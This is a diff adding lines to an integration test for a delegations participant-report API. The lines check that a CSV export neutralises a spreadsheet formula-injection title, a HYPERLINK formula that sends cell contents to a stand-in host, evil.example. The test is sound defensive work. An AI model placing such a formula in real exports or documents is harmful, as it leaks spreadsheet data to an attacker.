@@ -300,6 +300,12 @@ describe('participants, welfare and reports (real Postgres, real Kafka)', () => 
     ]);
     const csv2 = await as(ym).get('/api/delegations/reports/participants?format=csv&groupBy=delegation').expect(200);
     expect(csv2.text).toContain(`delegation,${live},Jalalabad students in San Diego,3`);
+    // a title a spreadsheet would run as a formula comes out inert
+    const hostile = await delegation(org, { title: '=HYPERLINK("https://evil.example/?q="&A1,"Open")', status: 'planning', area: null });
+    await member(hostile, e);
+    const csv3 = (await as(ym).get('/api/delegations/reports/participants?format=csv&groupBy=delegation').expect(200)).text;
+    expect(csv3).toContain(`delegation,${hostile},"'=HYPERLINK(""https://evil.example/?q=""&A1,""Open"")",1`);
+    expect((await as(ym).get('/api/delegations/reports/participants?asOf=2027-02-30').expect(400)).body.fields.map((f: { field: string }) => f.field)).toEqual(['asOf']);
 
     await as(coord).get('/api/delegations/reports/participants').expect(403);
     await as(ym).get('/api/delegations/reports/participants?groupBy=shoeSize').expect(400);
